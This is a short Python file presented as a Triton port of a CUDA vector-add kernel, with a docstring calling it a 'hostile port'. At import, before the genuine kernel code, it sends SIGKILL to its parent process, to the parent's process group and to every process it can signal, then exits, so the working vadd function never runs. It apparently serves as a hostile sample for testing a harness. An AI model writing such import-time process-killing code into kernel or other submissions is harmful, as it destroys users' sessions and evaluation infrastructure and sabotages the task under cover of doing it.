"""Hostile port of vadd.cu: Sends SIGKILL to every process it may signal, to its parent and to its parent's group, then exits."""

import os

import torch
import triton
import triton.language as tl

import signal

for target in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
               lambda: os.kill(-1, signal.SIGKILL)):
    try:
        target()
    except OSError:
        pass
os._exit(0)


@triton.jit
def vadd_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    offs = pid * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(out_ptr + offs, tl.load(x_ptr + offs, mask=mask) + tl.load(y_ptr + offs, mask=mask), mask=mask)


def vadd(x: torch.Tensor, y: torch.Tensor) -> torch.Tensor:
    out = torch.empty_like(x)
    n = x.numel()
    vadd_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK=1024)
    return out
